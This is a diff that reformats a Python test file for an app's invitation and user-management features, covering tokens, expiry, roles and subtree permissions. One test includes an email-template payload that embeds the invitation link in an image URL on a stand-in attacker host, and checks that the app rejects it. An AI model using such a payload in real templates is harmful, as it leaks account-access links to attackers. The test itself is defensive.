@@ -37,10 +37,16 @@ def _token(message) -> str:  # type: ignore[no-untyped-def]
     return text_of(message).split("token=", 1)[1].split()[0]
 
 
-def test_a_new_person_accepts_with_a_password_of_their_own_and_can_sign_in(db: Session, tree: dict,
-                                                                          outbox: Path) -> None:
-    invitations.invite(db, _actor(db, tree, "a-admin"), email="New.Support@Example.com", role=Role.SUPPORT,
-                       organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+def test_a_new_person_accepts_with_a_password_of_their_own_and_can_sign_in(
+    db: Session, tree: dict, outbox: Path
+) -> None:
+    invitations.invite(
+        db,
+        _actor(db, tree, "a-admin"),
+        email="New.Support@Example.com",
+        role=Role.SUPPORT,
+        organization_id=_org(db, "reseller-a").id,
+    )  # type: ignore[arg-type]
     db.commit()
     assert db.exec(select(User).where(User.email == "new.support@example.com")).first() is None  # not yet
     mail = _mail_to(outbox, "new.support@example.com")
@@ -54,8 +60,13 @@ def test_a_new_person_accepts_with_a_password_of_their_own_and_can_sign_in(db: S
     with pytest.raises(ValidationFailed, match="already used"):  # the link works once
         invitations.accept_new_account(db, _token(mail), "another passphrase here")
     with pytest.raises(ValidationFailed, match="already a member"):
-        invitations.invite(db, _actor(db, tree, "a-admin"), email="new.support@example.com", role=Role.ADMIN,
-                           organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+        invitations.invite(
+            db,
+            _actor(db, tree, "a-admin"),
+            email="new.support@example.com",
+            role=Role.ADMIN,
+            organization_id=_org(db, "reseller-a").id,
+        )  # type: ignore[arg-type]
 
 
 def test_inviting_an_existing_account_hands_out_no_way_into_it(db: Session, tree: dict, outbox: Path) -> None:
@@ -66,15 +77,25 @@ def test_inviting_an_existing_account_hands_out_no_way_into_it(db: Session, tree
     db.add(operator)
     db.commit()
     hash_before = operator.password_hash
-    invitations.invite(db, _actor(db, tree, "a-admin"), email="operator@example.com", role=Role.ADMIN,
-                       organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    invitations.invite(
+        db,
+        _actor(db, tree, "a-admin"),
+        email="operator@example.com",
+        role=Role.ADMIN,
+        organization_id=_org(db, "reseller-a").id,
+    )  # type: ignore[arg-type]
     db.commit()
     mail = _mail_to(outbox, "operator@example.com")
     assert "token=" not in str(mail) and "/invitations" in text_of(mail)
     assert db.exec(select(UserToken).where(UserToken.user_id == operator.id)).all() == []
-    assert db.exec(select(Membership).where(Membership.user_id == operator.id)).all() == \
-        db.exec(select(Membership).where(Membership.user_id == operator.id,
-                                         Membership.organization_id == _org(db, "platform").id)).all()
+    assert (
+        db.exec(select(Membership).where(Membership.user_id == operator.id)).all()
+        == db.exec(
+            select(Membership).where(
+                Membership.user_id == operator.id, Membership.organization_id == _org(db, "platform").id
+            )
+        ).all()
+    )
     db.refresh(operator)
     assert operator.password_hash == hash_before
     [offer] = invitations.pending_for(db, operator.id)  # type: ignore[arg-type]
@@ -91,8 +112,13 @@ def test_an_existing_account_joins_only_by_accepting_as_itself(db: Session, tree
     cust.email_verified_at = utcnow()
     db.add(cust)
     db.commit()
-    invitation = invitations.invite(db, _actor(db, tree, "a-admin"), email="cust-b@example.com", role=Role.SUPPORT,
-                                    organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    invitation = invitations.invite(
+        db,
+        _actor(db, tree, "a-admin"),
+        email="cust-b@example.com",
+        role=Role.SUPPORT,
+        organization_id=_org(db, "reseller-a").id,
+    )  # type: ignore[arg-type]
     db.commit()
     stranger = tree["users"]["b-admin"]
     with pytest.raises(Forbidden):  # someone else cannot accept it for them
@@ -100,14 +126,20 @@ def test_an_existing_account_joins_only_by_accepting_as_itself(db: Session, tree
     db.rollback()
     invitations.respond(db, cust.id, invitation.id, accept=True)  # type: ignore[arg-type]
     db.commit()
-    assert db.exec(select(Membership).where(Membership.user_id == cust.id,
-                                            Membership.organization_id == _org(db, "reseller-a").id)).one()
+    assert db.exec(
+        select(Membership).where(Membership.user_id == cust.id, Membership.organization_id == _org(db, "reseller-a").id)
+    ).one()
 
 
 def test_an_unconfirmed_address_sees_and_accepts_nothing(db: Session, tree: dict) -> None:
     """Someone who signed up with the invitee's address but never confirmed it is not the invitee."""
-    invitation = invitations.invite(db, _actor(db, tree, "a-admin"), email="later@example.com", role=Role.SUPPORT,
-                                    organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    invitation = invitations.invite(
+        db,
+        _actor(db, tree, "a-admin"),
+        email="later@example.com",
+        role=Role.SUPPORT,
+        organization_id=_org(db, "reseller-a").id,
+    )  # type: ignore[arg-type]
     db.commit()
     squatter = service.signup(db, email="later@example.com", username="squatter", password="long enough password")
     db.commit()
@@ -117,8 +149,13 @@ def test_an_unconfirmed_address_sees_and_accepts_nothing(db: Session, tree: dict
 
 
 def test_the_new_person_token_cannot_reset_or_take_an_account(db: Session, tree: dict, outbox: Path) -> None:
-    invitations.invite(db, _actor(db, tree, "a-admin"), email="fresh@example.com", role=Role.SUPPORT,
-                       organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    invitations.invite(
+        db,
+        _actor(db, tree, "a-admin"),
+        email="fresh@example.com",
+        role=Role.SUPPORT,
+        organization_id=_org(db, "reseller-a").id,
+    )  # type: ignore[arg-type]
     db.commit()
     token = _token(_mail_to(outbox, "fresh@example.com"))
     with pytest.raises(ValidationFailed, match="invalid"):  # not a password-reset token
@@ -134,8 +171,9 @@ def test_the_new_person_token_cannot_reset_or_take_an_account(db: Session, tree:
 
 def test_invitations_expire_and_can_be_withdrawn(db: Session, tree: dict, outbox: Path) -> None:
     admin = _actor(db, tree, "a-admin")
-    invitation = invitations.invite(db, admin, email="slow@example.com", role=Role.SUPPORT,
-                                    organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    invitation = invitations.invite(
+        db, admin, email="slow@example.com", role=Role.SUPPORT, organization_id=_org(db, "reseller-a").id
+    )  # type: ignore[arg-type]
     invitation.expires_at = utcnow() - timedelta(seconds=1)
     db.add(invitation)
     db.commit()
@@ -144,8 +182,9 @@ def test_invitations_expire_and_can_be_withdrawn(db: Session, tree: dict, outbox
     with pytest.raises(ValidationFailed, match="expired"):
         invitations.accept_new_account(db, token, "a brand new passphrase")
     db.rollback()
-    other = invitations.invite(db, admin, email="gone@example.com", role=Role.SUPPORT,
-                               organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+    other = invitations.invite(
+        db, admin, email="gone@example.com", role=Role.SUPPORT, organization_id=_org(db, "reseller-a").id
+    )  # type: ignore[arg-type]
     db.commit()
     assert [r["email"] for r in invitations.list_pending(db, admin)] == ["gone@example.com", "slow@example.com"]
     with pytest.raises(Forbidden):
@@ -159,8 +198,13 @@ def test_invitations_expire_and_can_be_withdrawn(db: Session, tree: dict, outbox
 
 def test_only_owners_make_owners(db: Session, tree: dict) -> None:
     with pytest.raises(ValidationFailed, match="Only an owner"):
-        invitations.invite(db, _actor(db, tree, "a-admin"), email="boss@example.com", role=Role.OWNER,
-                           organization_id=_org(db, "reseller-a").id)  # type: ignore[arg-type]
+        invitations.invite(
+            db,
+            _actor(db, tree, "a-admin"),
+            email="boss@example.com",
+            role=Role.OWNER,
+            organization_id=_org(db, "reseller-a").id,
+        )  # type: ignore[arg-type]
     db.rollback()
     support = db.exec(select(Membership).where(Membership.user_id == tree["users"]["a-support"].id)).one()
     with pytest.raises(ValidationFailed, match="Only an owner"):
@@ -169,16 +213,29 @@ def test_only_owners_make_owners(db: Session, tree: dict) -> None:
 
 def test_a_sellers_invitation_template_cannot_send_the_link_elsewhere(db: Session, tree: dict) -> None:
     with pytest.raises(ValidationFailed, match="link"):
-        branding.save_email_template(db, _actor(db, tree, "a-admin"), _org(db, "reseller-a").id,  # type: ignore[arg-type]
-                                     "invitation", {"html": '<img src="https://evil.example/?{{ link }}">'})
+        branding.save_email_template(
+            db,
+            _actor(db, tree, "a-admin"),
+            _org(db, "reseller-a").id,  # type: ignore[arg-type]
+            "invitation",
+            {"html": '<img src="https://evil.example/?{{ link }}">'},
+        )
 
 
 def test_no_one_manages_people_outside_their_subtree_or_without_the_role(db: Session, tree: dict) -> None:
-    a_customer = db.exec(select(Membership).join(User, User.id == Membership.user_id)  # type: ignore[arg-type]
-                         .where(User.username == "cust-a")).one()
+    a_customer = db.exec(
+        select(Membership)
+        .join(User, User.id == Membership.user_id)  # type: ignore[arg-type]
+        .where(User.username == "cust-a")
+    ).one()
     attempts = [
-        lambda: invitations.invite(db, _actor(db, tree, "b-admin"), email="x@example.com", role=Role.ADMIN,
-                                   organization_id=_org(db, "reseller-a").id),
+        lambda: invitations.invite(
+            db,
+            _actor(db, tree, "b-admin"),
+            email="x@example.com",
+            role=Role.ADMIN,
+            organization_id=_org(db, "reseller-a").id,
+        ),
         lambda: users.change_role(db, _actor(db, tree, "b-admin"), a_customer.id, Role.MEMBER),
         lambda: users.set_disabled(db, _actor(db, tree, "b-admin"), a_customer.user_id, True),
         lambda: users.change_role(db, _actor(db, tree, "a-support"), a_customer.id, Role.MEMBER),
@@ -191,8 +248,10 @@ def test_no_one_manages_people_outside_their_subtree_or_without_the_role(db: Ses
     assert db.get(User, a_customer.user_id).status == "active"  # type: ignore[union-attr]
     assert db.exec(select(Invitation)).all() == []
     assert len(db.exec(select(AuditEvent).where(AuditEvent.action == "admin.denied")).all()) == 4
-    assert {r["email"] for r in users.list_users(db, _actor(db, tree, "b-admin"))[0]} == \
-        {"b-admin@example.com", "cust-b@example.com"}
+    assert {r["email"] for r in users.list_users(db, _actor(db, tree, "b-admin"))[0]} == {
+        "b-admin@example.com",
+        "cust-b@example.com",
+    }
 
 
 def test_disabling_signs_out_at_once_and_nobody_removes_the_last_owner_or_themselves(db: Session, tree: dict) -> None:
